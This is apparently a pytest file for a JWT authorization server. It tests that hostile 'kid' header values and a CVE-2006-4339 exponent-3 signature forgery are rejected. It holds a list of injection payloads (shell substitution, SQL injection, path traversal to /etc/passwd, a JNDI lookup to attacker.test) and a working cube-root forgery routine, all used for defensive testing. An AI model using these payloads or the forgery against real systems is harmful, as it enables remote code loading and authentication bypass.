"""Forgeries that need more than one header or payload: names of keys that are commands, and signatures without the key."""

import pytest
from cryptography.hazmat.primitives.asymmetric.rsa import generate_private_key
from cryptography.hazmat.primitives.hashes import SHA256, Hash

from authz_server.core.cognito_user_pools import cognito_user_pools
from authz_server.core.reasons import Reason
from authz_server.core.tokens import Key, parse, verify
from authz_server.testing import SigningKey, StaticKeys, compact
from tests.judging import authorize

SHA256_PREFIX = bytes.fromhex("3031300d060960864801650304020105000420")  # RFC 8017 section 9.2, note 1

NAMES = [
    "../../../../dev/null",
    "/etc/passwd",
    "file:///dev/null",
    "https://attacker.test/jwks.json",
    "' OR '1'='1",
    "x' UNION SELECT 'secret",
    "$(id)",
    "`id`",
    "|id",
    "${jndi:ldap://attacker.test/a}",
    "__proto__",
    "__class__",
    "constructor",
    "%s%s%s%n",
    "{0.__init__.__globals__}",
    "a" * 10_000,
    "\x00",
    "*",
    "",
]


@pytest.mark.parametrize("name", NAMES, ids=lambda name: repr(name)[:40])
def test_the_name_of_a_key_is_a_name_and_nothing_else(name, pool, other_pool, now, outcome):
    """RFC 8725 section 3.10: `kid` reaches no file, database, shell or URL; no key has that name, so nobody signed the token."""
    users = cognito_user_pools(name="users", identity_source="authorization", issuers={pool.issuer: StaticKeys(pool)})
    forged = other_pool.id_key.sign(pool.id_claims(), header={"kid": name})

    assert outcome(authorize, users, forged, frozenset(), now) is Reason.KEY_UNKNOWN


@pytest.mark.parametrize(
    "spell", [str.swapcase, lambda kid: f" {kid}", lambda kid: f"{kid}\x00", lambda kid: f"{kid}/../{kid}", lambda kid: kid[:-1]]
)
def test_the_name_of_a_key_has_one_spelling(spell, pool, now, outcome):
    """Also the pool's own signature is none under a name that only resembles its key's."""
    users = cognito_user_pools(name="users", identity_source="authorization", issuers={pool.issuer: StaticKeys(pool)})
    token = pool.id_key.sign(pool.id_claims(), header={"kid": spell(pool.id_key.kid)})

    assert outcome(authorize, users, token, frozenset(), now) is Reason.KEY_UNKNOWN


def root(number: int) -> int:
    """Take the cube root, rounded up."""
    low, high = 0, 1 << (number.bit_length() // 3 + 2)
    while low < high:
        middle = (low + high) // 2
        low, high = (middle + 1, high) if middle**3 < number else (low, middle)
    return low


@pytest.mark.parametrize("padding", [1, 8, 25])
def test_cve_2006_4339_what_follows_the_digest_is_read(padding):
    """With an exponent of 3, a cube root makes a signature for whoever does not look behind the digest."""
    key = SigningKey(kid="k", private=generate_private_key(public_exponent=3, key_size=2_048))
    head = b"\x00\x01" + b"\xff" * padding + b"\x00" + SHA256_PREFIX

    def forge(data: bytes) -> bytes:
        digest = Hash(SHA256())
        digest.update(data)
        start = head + digest.finalize()
        wanted = int.from_bytes(start.ljust(256, b"\x00"))
        found = root(wanted)
        assert (found**3).to_bytes(256).startswith(start), "the forgery is what it should be"
        return found.to_bytes(256)

    token = parse(compact({"alg": "RS256", "kid": "k"}, {"sub": "root"}, forge))

    assert not verify(token, Key("k", key.public))
